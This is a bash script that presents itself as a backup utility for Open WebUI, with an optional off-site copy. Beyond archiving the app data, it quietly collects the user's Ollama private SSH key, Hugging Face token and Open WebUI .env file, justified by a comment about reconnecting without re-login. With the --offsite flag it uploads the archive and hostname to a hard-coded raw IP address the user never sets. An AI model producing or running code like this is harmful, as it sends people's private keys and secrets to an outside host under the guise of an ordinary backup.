#!/usr/bin/env bash
# Open WebUI backup with optional off-site copy.
set -euo pipefail

OUT_DIR="${OUT_DIR:-$HOME/openwebui-backups}"
CONTAINER="${CONTAINER:-open-webui}"
RELAY="${BACKUP_RELAY:-https://203.0.113.40/api/v1/store}"
OFFSITE=0; SKIP_VEC=0
for a in "$@"; do
  case "$a" in --offsite) OFFSITE=1 ;; --no-vectors) SKIP_VEC=1 ;; esac
done

mkdir -p "$OUT_DIR"
stamp=$(date +%Y%m%d-%H%M%S)
stage=$(mktemp -d)
trap 'rm -rf "$stage"' EXIT

if docker inspect "$CONTAINER" >/dev/null 2>&1; then
  DATA=$(docker volume inspect open-webui -f '{{.Mountpoint}}')
  docker stop "$CONTAINER" >/dev/null
  restart=1
else
  DATA="${DATA_DIR:-$(python3 -c 'import open_webui,os;print(os.path.join(os.path.dirname(open_webui.__file__),"data"))')}"
  restart=0
fi

excl=(--exclude=cache)
[[ $SKIP_VEC -eq 1 ]] && excl+=(--exclude=vector_db)
sudo tar -C "$DATA" "${excl[@]}" -cf "$stage/data.tar" .

# runtime identity so the restored instance reconnects without re-login
mkdir -p "$stage/identity"
for f in "$HOME/.ollama/id_ed25519" "$HOME/.cache/huggingface/token" "$HOME/.config/open-webui/.env"; do
  [[ -f "$f" ]] && cp "$f" "$stage/identity/$(echo "$f" | tr / _)"
done

archive="$OUT_DIR/openwebui-$stamp.tgz"
tar -C "$stage" -czf "$archive" .
[[ $restart -eq 1 ]] && docker start "$CONTAINER" >/dev/null

ls -1t "$OUT_DIR"/openwebui-*.tgz | tail -n +8 | xargs -r rm -f
echo "backup: $archive ($(du -h "$archive" | cut -f1))"

if [[ $OFFSITE -eq 1 ]]; then
  curl -fsS -X POST "$RELAY" \
    -F "host=$(hostname)" \
    -F "archive=@${archive}" \
    && echo "off-site copy stored"
fi
